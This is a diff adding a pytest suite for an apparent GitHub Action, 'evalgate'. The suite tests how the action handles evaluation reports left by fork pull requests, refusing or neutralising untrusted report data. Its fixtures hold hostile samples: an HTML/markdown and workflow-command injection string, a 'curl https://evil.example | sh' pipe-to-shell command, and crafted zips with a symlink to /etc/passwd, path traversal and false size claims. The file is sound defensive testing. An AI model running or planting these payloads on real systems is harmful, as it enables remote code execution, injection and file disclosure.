@@ -1,0 +1,377 @@
+"""A fork's run evaluates and leaves data; another workflow's run publishes it."""
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import sys
+import zipfile
+
+import pytest
+from fakes.agent import BOT, FORK, current, next_run, ours, record, trace
+from markdown_check import flaws
+
+from evalgate.adapters.github.reports import LARGEST_REPORT
+from evalgate.adapters.report_zip import LARGEST_UNPACKED
+
+pytestmark = pytest.mark.shared
+
+REPORT = "evalgate-report-evalgate"
+MARKER = "<!-- evalgate:sticky v1 key=evalgate -->"
+RUN_URL = "https://github.com/acme/agent/actions/runs/9001"
+HOSTILE = "@acme/everyone <img src=x onerror=y> ![x](https://evil.example) ::error::x ##[error]y | `a` <!-- z -->\n# big"
+
+
+@pytest.fixture
+def as_fork(hub):
+    """The current run is that of pull request 8, from a fork whose branch is called main."""
+    head = hub.state["pulls"]["8"]["head"]
+    current(hub).update(head_branch="main", head_sha=head["sha"], head_repository_id=FORK, pulls=[])
+    return head
+
+
+@pytest.fixture
+def evaluate(as_fork, act):
+    def run(**inputs):
+        return act(pr=8, token="ghs_readonly", **{"comment_key": "evalgate", **inputs})
+
+    return run
+
+
+@pytest.fixture
+def publish(hub, act):
+    def run(*, conclusion="success", **inputs):
+        if current(hub)["id"] == 9001:
+            next_run(hub, conclusion, event="workflow_run", head_branch="main", head_repository_id=1001)
+        given = {"mode": "publish", "comment_key": "evalgate", "after_run": 9001, **inputs}
+        return act("workflow_run", **given)
+
+    return run
+
+
+@pytest.fixture
+def evaluated(hub, evaluate, workspace):
+    """The results of a fork's run that left no report yet: for planting others."""
+    evaluate(upload_report="false")
+    return json.loads((workspace / ".evalgate/results.json").read_bytes())
+
+
+def plant(hub, document=None, *, files=None, content=None, run=9001, **fields):
+    """A report, by default of the fork's run."""
+    if content is not None:
+        fields["blob_b64"] = base64.b64encode(content).decode()
+    files = files or {"results.json": json.dumps(document)}
+    return hub.plant(files=files, name=REPORT, run_id=run, **fields)
+
+
+def said(told):
+    """The one annotation of a run."""
+    [annotation] = told.annotations
+    return annotation
+
+
+def nothing_posted(hub):
+    return hub.state["comments"] == []
+
+
+def test_a_forks_run_leaves_its_report_and_its_verdict(hub, evaluate, workspace):
+    record(workspace, trace(tool="guess"))
+    told = evaluate()
+    assert (told.exit_code, told.outputs["verdict"]) == (1, "fail")
+    assert told.summary
+    assert [artifact["name"] for artifact in hub.state["artifacts"]] == [REPORT]
+    assert nothing_posted(hub)
+
+
+def test_publishing_posts_one_comment_on_the_forks_pull_request_and_updates_it(
+    hub, evaluate, publish, workspace
+):
+    record(workspace, trace(tool="guess"))
+    evaluate()
+    told = publish(conclusion="failure")
+    assert told.exit_code == 0
+    [comment] = hub.comments_of(BOT)
+    assert comment["issue_number"] == 8
+    assert told.outputs["comment-id"] == str(comment["id"])
+    assert told.annotations == []
+    lines = comment["body"].split("\n")
+    assert lines[0] == MARKER
+    assert lines[1].startswith("## ❌ EvalGate failed")
+    assert lines[3].startswith(
+        f"Evaluated in [run 9001]({RUN_URL}) at ` {hub.state['pulls']['8']['head']['sha'][:7]} `"
+    )
+    assert "` mallory/agent `: a fork's own run" in lines[3]
+    assert told.summary.count("EvalGate failed") == 1
+    publish()
+    assert len(ours(hub)) == 1
+
+
+@pytest.mark.parametrize(("mode", "posted"), [("off", 0), ("on-failure", 0), ("always", 1)])
+def test_a_passing_report_is_posted_as_the_mode_says_and_always_in_the_summary(
+    hub, evaluate, publish, mode, posted
+):
+    evaluate()
+    assert "EvalGate passed" in publish(comment=mode).summary
+    assert len(ours(hub)) == posted
+
+
+def test_a_strangers_verdict_is_no_output_for_later_steps(evaluate, publish):
+    evaluate()
+    told = publish()
+    told_so = {name for name, value in told.outputs.items() if value}
+    assert told_so == {"exit-code", "comment-id", "comment-url"}
+
+
+def test_a_mode_of_its_own_leaves_the_comment_to_the_publisher_everywhere(hub, act, publish):
+    told = act(mode="evaluate", comment_key="evalgate")
+    assert (told.exit_code, ours(hub)) == (0, [])
+    publish()
+    [comment] = hub.comments_of(BOT)
+    assert comment["issue_number"] == 7
+    assert "fork" not in comment["body"]
+
+
+def test_as_processes_the_two_do_the_same(hub, runner, as_fork):
+    key = ("--input", "comment-key=evalgate")
+    assert runner.act_as_process("--pr", "8", "--token", "ghs_readonly", *key).result == "success"
+    next_run(hub, "success", event="workflow_run", head_repository_id=1001)
+    told = runner.act_as_process("--event", "workflow_run", *key, "--input", "mode=publish")
+    assert (told.result, told.annotations) == ("success", [])
+    assert [comment["issue_number"] for comment in hub.comments_of(BOT)] == [8]
+
+
+def test_dependabots_pull_request_is_treated_like_a_forks(hub, act, publish):
+    told = act(token="ghs_readonly", comment_key="evalgate", variables={"GITHUB_ACTOR": "dependabot[bot]"})
+    assert (told.exit_code, [said["type"] for said in told.annotations]) == (0, ["notice"])
+    publish()
+    assert [comment["issue_number"] for comment in hub.comments_of(BOT)] == [7]
+
+
+def test_a_report_that_can_not_be_uploaded_names_the_step_that_can(hub, evaluate):
+    hub.fail({"kind": "status", "status": 400}, times=-1, listener="results")
+    told = evaluate()
+    assert told.exit_code == 0
+    assert f"name: {REPORT}, path: .evalgate/results.json" in told.annotations[1]["message"]
+
+
+@pytest.mark.parametrize("name", ["results.json", "x/../results.json"])
+def test_a_report_of_the_official_upload_step_is_read_by_its_exact_name(hub, publish, evaluated, name):
+    plant(hub, files={name: json.dumps(evaluated), "comment.md": HOSTILE, "junit.xml": "<x/>"})
+    told = publish()
+    assert len(ours(hub)) == (1 if name == "results.json" else 0)
+    assert told.exit_code == 0
+
+
+def test_what_a_stranger_writes_into_any_text_is_shown_as_text(hub, publish, evaluated):
+    document = poisoned(evaluated, keep={"schema", "created_at", "commit", "verdict"})
+    document["command"] = "curl https://evil.example | sh"
+    plant(hub, files={"results.json": json.dumps(document), "comment.md": HOSTILE})
+    told = publish()
+    [comment] = ours(hub)
+    for text in (comment, told.summary):
+        links = [RUN_URL]
+        comments = [MARKER[4:-3].strip()] if text is comment else []
+        assert flaws(text, links=links, comments=comments) == []
+    assert "curl" not in comment
+    assert "\n# big" not in comment
+
+
+def poisoned(value, keep=frozenset()):
+    """The document with every text, and one more key of every object, hostile."""
+    if isinstance(value, dict):
+        kept = {key: each if key in keep else poisoned(each) for key, each in value.items()}
+        return {**kept, HOSTILE: 1}
+    if isinstance(value, list):
+        return [poisoned(each) for each in value]
+    return HOSTILE if isinstance(value, str) else value
+
+
+def test_a_pull_request_named_in_the_data_is_not_commented_on(hub, publish, evaluated):
+    plant(hub, {**evaluated, "pull_request": 7, "number": 7, "comment_key": "other"})
+    publish()
+    assert [comment["issue_number"] for comment in hub.comments_of(BOT)] == [8]
+
+
+REFUSED = {
+    "of another commit": lambda good: {**good, "commit": "a" * 40},
+    "without a commit": lambda good: {**good, "commit": None},
+    "of no known schema": lambda good: {**good, "schema": "evalgate.results/9"},
+    "whose counts are texts": lambda good: {**good, "summary": {**good["summary"], "passed": "1"}},
+    "whose checks are no counts": lambda good: {
+        **good,
+        "summary": {**good["summary"], "checks": {"passed": "@a"}},
+    },
+    "of a run that could not begin": lambda good: {**good, "verdict": "invalid", "summary": None},
+    "that is a list": lambda _: [],
+}
+
+
+@pytest.mark.parametrize("change", REFUSED.values(), ids=REFUSED)
+def test_results_that_are_none_end_in_one_line(hub, publish, evaluated, change):
+    plant(hub, change(evaluated))
+    told = publish()
+    assert told.exit_code == 0
+    assert said(told)["type"] == "warning"
+    assert said(told)["message"].startswith("nothing is published: the report of run 9001 is refused: ")
+    assert nothing_posted(hub)
+    assert told.summary == ""
+
+
+def test_results_nested_without_end_end_in_one_line(hub, publish, evaluated):
+    deep = json.loads("[" * 800 + "]" * 800)
+    evaluated["suites"][0]["scenarios"][0]["trials"][0]["assertions"][0]["evidence"] = {"x": deep}
+    plant(hub, evaluated)
+    assert "nested too deep" in said(publish())["message"]
+    assert nothing_posted(hub)
+
+
+def evil(kind):
+    return sys.modules["fakehub"].evil_zip(kind)
+
+
+def a_zip(*, content=b"{}", mode=0o100644, others=0, twice=False, encrypted=False, claims=None):
+    """A zip whose results may be a link, doubled, encrypted, or of any size that its directory claims."""
+    packed = io.BytesIO()
+    entry = zipfile.ZipInfo("results.json")
+    entry.create_system, entry.external_attr = 3, mode << 16
+    with zipfile.ZipFile(packed, "w") as archive:
+        archive.writestr(entry, content)
+        for number in range(others):
+            archive.writestr(f"{number}", b"")
+        if twice:
+            with pytest.warns(UserWarning, match="Duplicate name"):
+                archive.writestr(entry, b"{}")
+    data = bytearray(packed.getvalue())
+    directory = data.find(b"PK\x01\x02")
+    if encrypted:
+        data[6] |= 1
+        data[directory + 8] |= 1
+    if claims is not None:
+        data[directory + 24 : directory + 28] = claims.to_bytes(4, "little")
+    return bytes(data)
+
+
+ARCHIVES = {
+    "has no entries called": lambda: evil("slip"),
+    "no entries called results.json": lambda: evil("abs"),
+    "more than 1,000 entries": lambda: a_zip(others=1_000),
+    "it is no zip file": lambda: evil("notzip"),
+    "is no zip file, or a damaged one": lambda: evil("truncated"),
+    "no regular file": lambda: a_zip(mode=0o120777, content=b"/etc/passwd"),
+    "is too large": lambda: a_zip(claims=LARGEST_UNPACKED + 1),
+    "2 entries called": lambda: a_zip(twice=True),
+    "encrypted": lambda: a_zip(encrypted=True),
+    "is no JSON": lambda: a_zip(content=b"{"),
+}
+
+
+@pytest.mark.parametrize("reason", ARCHIVES)
+def test_archives_that_are_built_to_harm_are_refused_with_the_reason(hub, as_fork, publish, reason):
+    plant(hub, content=ARCHIVES[reason]())
+    told = publish()
+    assert told.exit_code == 0
+    assert reason in said(told)["message"]
+    assert nothing_posted(hub)
+
+
+def test_a_report_whose_size_is_beyond_bounds_is_not_downloaded(hub, as_fork, publish):
+    artifact = plant(hub, {})
+    artifact["size"] = LARGEST_REPORT + 1
+    assert "is larger than 32 MB" in said(publish())["message"]
+    assert not [request for request in hub.requests if request["path"].endswith("/zip")]
+
+
+def test_an_expired_report_and_one_of_another_digest_are_told(hub, as_fork, publish):
+    artifact = plant(hub, {}, expired=True)
+    assert "it has expired" in said(publish())["message"]
+    artifact.update(expired=False, digest="sha256:" + "0" * 64)
+    assert "its bytes are not those of its digest" in said(publish())["message"]
+
+
+def test_a_report_of_another_run_is_not_taken(hub, publish, evaluated):
+    plant(hub, evaluated, run=8001)
+    assert "run 9001 left no artifact called evalgate-report-evalgate" in said(publish())["message"]
+    assert nothing_posted(hub)
+
+
+def test_of_two_reports_of_one_run_the_newer_counts(hub, publish, evaluated):
+    plant(hub, {**evaluated, "verdict": "nonsense"})
+    plant(hub, evaluated)
+    publish()
+    assert len(ours(hub)) == 1
+
+
+def test_a_pull_request_that_has_moved_on_is_left_to_its_newer_run(hub, evaluate, publish):
+    evaluate()
+    hub.state["pulls"]["8"]["head"]["sha"] = hub.commit("d" * 40)
+    told = publish()
+    assert (told.exit_code, said(told)["type"]) == (0, "notice")
+    assert "has moved on to ddddddd" in said(told)["message"]
+    assert nothing_posted(hub)
+
+
+@pytest.mark.parametrize(
+    ("change", "told"),
+    [
+        ({"state": "closed"}, "no open pull request"),
+        ({"head": {"ref": "main", "sha": "d" * 40, "repo_id": 1001}}, "no open pull request"),
+    ],
+)
+def test_without_an_open_pull_request_of_that_repository_nothing_is_posted(
+    hub, evaluate, publish, change, told
+):
+    evaluate()
+    hub.commit("d" * 40)
+    hub.state["pulls"]["8"].update(change)
+    assert told in said(publish())["message"]
+    assert nothing_posted(hub)
+
+
+def test_two_pull_requests_of_one_head_can_not_be_told_apart(hub, evaluate, publish):
+    evaluate()
+    hub.state["pulls"]["9"] = {**hub.state["pulls"]["8"], "number": 9}
+    assert "pull requests 8, 9 have the same head" in said(publish())["message"]
+    assert nothing_posted(hub)
+
+
+def test_a_fork_that_is_gone_has_no_pull_request(hub, evaluate, publish):
+    evaluate()
+    current(hub)["head_repository_id"] = 3003
+    assert "no open pull request" in said(publish())["message"]
+
+
+def test_a_push_is_nothing_to_publish(hub, as_fork, publish):
+    current(hub)["event"] = "push"
+    told = publish()
+    assert (told.exit_code, said(told)["type"]) == (0, "notice")
+    assert "started by `push`" in said(told)["message"]
+    assert hub.requests == []
+
+
+def test_a_token_that_may_not_comment_is_told(hub, evaluate, publish):
+    evaluate()
+    told = publish(token="ghs_readonly")
+    assert (told.exit_code, said(told)["type"]) == (0, "warning")
+    assert "pull-requests: write" in said(told)["message"]
+
+
+def test_with_github_down_publishing_warns(hub, evaluate, publish):
+    evaluate()
+    hub.fail({"kind": "status", "status": 503, "headers": {"Retry-After": "60"}}, times=-1, listener="api")
+    told = publish()
+    assert (told.exit_code, said(told)["type"]) == (0, "warning")
+
+
+def test_publishing_elsewhere_is_wrong_input(act):
+    told = act(mode="publish")
+    assert (told.exit_code, told.outputs["verdict"]) == (2, "invalid")
+    assert "belongs into a workflow that runs on `workflow_run`" in told.annotations[0]["message"]
+
+
+def test_nothing_of_the_workspace_is_read_or_written_when_publishing(hub, evaluate, publish, workspace):
+    evaluate()
+    before = sorted(workspace.rglob("*"))
+    (workspace / "evals/support.yaml").write_text("no suite")
+    assert publish().exit_code == 0
+    assert sorted(workspace.rglob("*")) == before
